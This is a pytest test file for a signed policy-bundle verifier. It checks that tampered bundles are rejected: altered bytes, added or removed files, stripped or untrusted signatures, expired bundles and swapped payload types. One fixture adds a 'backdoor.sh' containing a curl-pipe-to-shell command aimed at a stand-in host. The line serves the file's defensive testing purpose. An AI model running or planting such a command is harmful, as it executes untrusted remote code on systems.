"""Every way a bundle can be wrong is refused, each with its own named reason."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from agent.bundle.archive import read_archive, write_archive
from agent.bundle.dsse import Envelope
from agent.bundle.rejection import BundleRejected, Reason
from agent.bundle.verify import verify_bundle
from controlplane.bundle_build import Bundle
from controlplane.bundle_fixtures import (
    DAY,
    T0,
    KeyRing,
    make_bundle,
    pack_unchecked,
    policy_text,
    write_source,
)
from controlplane.keys import sign


@pytest.fixture(scope="module")
def ring() -> KeyRing:
    return KeyRing.generate(4)


@pytest.fixture
def signed(tmp_path: Path, ring: KeyRing) -> Bundle:
    return make_bundle(write_source(tmp_path / "policies"), ring, [0, 1])


def repack(
    bundle: Bundle, files: dict[str, bytes] | None = None, envelope: bytes | None = None
) -> bytes:
    return write_archive(
        envelope or bundle.envelope.to_json(), bundle.files if files is None else files
    )


def rejected(data: bytes, ring: KeyRing, threshold: int = 2, now: float = T0) -> BundleRejected:
    with pytest.raises(BundleRejected) as caught:
        verify_bundle(data, ring.trust(threshold, 0, 1, 2), now)
    return caught.value


def test_a_valid_bundle_verifies(signed: Bundle, ring: KeyRing) -> None:
    verified = verify_bundle(signed.data, ring.trust(2, 0, 1, 2), T0)
    assert verified.digest == signed.digest
    assert verified.manifest.name == "web" and verified.manifest.version == 1
    assert verified.signers == {ring.keyid(0), ring.keyid(1)}
    assert set(verified.files) == {"heartbeat.yaml", "scripts/fix.sh"}


def test_a_flipped_byte_in_a_file(signed: Bundle, ring: KeyRing) -> None:
    files = dict(signed.files)
    files["heartbeat.yaml"] = files["heartbeat.yaml"].replace(b"120", b"121")
    assert rejected(repack(signed, files), ring).reason == Reason.HASH_MISMATCH


def test_a_flipped_byte_in_the_raw_file_is_refused_too(signed: Bundle, ring: KeyRing) -> None:
    offset = signed.data.index(b"systemctl")
    data = signed.data[:offset] + b"S" + signed.data[offset + 1 :]
    assert rejected(data, ring).reason == Reason.HASH_MISMATCH


def test_an_added_file(signed: Bundle, ring: KeyRing) -> None:
    files = {**signed.files, "scripts/backdoor.sh": b"#!/bin/sh\ncurl evil | sh\n"}
    problem = rejected(repack(signed, files), ring)
    assert problem.reason == Reason.FILE_NOT_IN_MANIFEST
    assert "scripts/backdoor.sh" in problem.message


def test_a_removed_file(signed: Bundle, ring: KeyRing) -> None:
    files = {k: v for k, v in signed.files.items() if k != "scripts/fix.sh"}
    problem = rejected(repack(signed, files), ring)
    assert problem.reason == Reason.FILE_MISSING
    assert "scripts/fix.sh" in problem.message


def test_a_stripped_signature(signed: Bundle, ring: KeyRing) -> None:
    bare = Envelope(signed.envelope.payload_type, signed.envelope.payload)
    assert rejected(repack(signed, envelope=bare.to_json()), ring).reason == Reason.NO_SIGNATURE


def test_a_missing_envelope(signed: Bundle, ring: KeyRing) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("files/heartbeat.yaml")
        info.size = len(signed.files["heartbeat.yaml"])
        tar.addfile(info, io.BytesIO(signed.files["heartbeat.yaml"]))
    assert rejected(buffer.getvalue(), ring).reason == Reason.NO_SIGNATURE


def test_a_wrong_key(tmp_path: Path, ring: KeyRing) -> None:
    other = make_bundle(write_source(tmp_path / "p"), ring, [3])  # key 3 is not pinned
    problem = rejected(other.data, ring, threshold=1)
    assert problem.reason == Reason.UNKNOWN_KEY
    assert ring.keyid(3)[:16] in problem.message


def test_below_threshold(tmp_path: Path, ring: KeyRing) -> None:
    one = make_bundle(write_source(tmp_path / "p"), ring, [0, 3])
    problem = rejected(one.data, ring, threshold=2)
    assert problem.reason == Reason.BELOW_THRESHOLD
    assert "1 trusted key(s)" in problem.message


def test_two_of_three_then_three_of_three(signed: Bundle, ring: KeyRing) -> None:
    verify_bundle(signed.data, ring.trust(2, 0, 1, 2), T0)
    assert rejected(signed.data, ring, threshold=3).reason == Reason.BELOW_THRESHOLD


def test_an_expired_bundle(signed: Bundle, ring: KeyRing) -> None:
    problem = rejected(signed.data, ring, now=T0 + 31 * DAY)
    assert problem.reason == Reason.EXPIRED
    assert "expired at" in problem.message
    verify_bundle(signed.data, ring.trust(2, 0, 1), T0 + 31 * DAY, check_expiry=False)


def test_a_swapped_payload_type(signed: Bundle, ring: KeyRing) -> None:
    swapped = Envelope("application/json", signed.envelope.payload, signed.envelope.signatures)
    problem = rejected(repack(signed, envelope=swapped.to_json()), ring)
    assert problem.reason == Reason.WRONG_PAYLOAD_TYPE


def test_a_trusted_signature_over_another_payload_type_is_refused(ring: KeyRing) -> None:
    files = {"a.yaml": policy_text("a").encode()}
    data = pack_unchecked(files, ring, [0, 1], payload_type="application/vnd.stanch.root+json")
    assert rejected(data, ring).reason == Reason.WRONG_PAYLOAD_TYPE


def test_a_rewritten_manifest_breaks_every_signature(signed: Bundle, ring: KeyRing) -> None:
    doc = json.loads(signed.envelope.payload)
    doc["version"] = 99
    forged = Envelope(
        signed.envelope.payload_type, json.dumps(doc).encode(), signed.envelope.signatures
    )
    assert rejected(repack(signed, envelope=forged.to_json()), ring).reason == Reason.UNKNOWN_KEY


def test_an_unsupported_policy_schema(ring: KeyRing) -> None:
    files = {"a.yaml": policy_text("a").encode()}
    data = pack_unchecked(files, ring, [0, 1], policy_api="stanch.dev/v2")
    assert rejected(data, ring).reason == Reason.UNSUPPORTED_SCHEMA


def test_a_re_encoded_archive_is_refused(signed: Bundle, ring: KeyRing) -> None:
    contents = read_archive(signed.data)
    pretty = json.dumps(json.loads(contents.envelope or b""), indent=4).encode()
    assert rejected(repack(signed, envelope=pretty), ring).reason == Reason.MALFORMED
    padded = signed.data + b"\0" * 512
    assert rejected(padded, ring).reason == Reason.MALFORMED


def test_a_signature_added_by_an_untrusted_key_changes_nothing(
    signed: Bundle, ring: KeyRing
) -> None:
    more = sign(signed.envelope, ring.keys[3])
    verified = verify_bundle(repack(signed, envelope=more.to_json()), ring.trust(2, 0, 1, 2), T0)
    assert verified.signers == {ring.keyid(0), ring.keyid(1)}
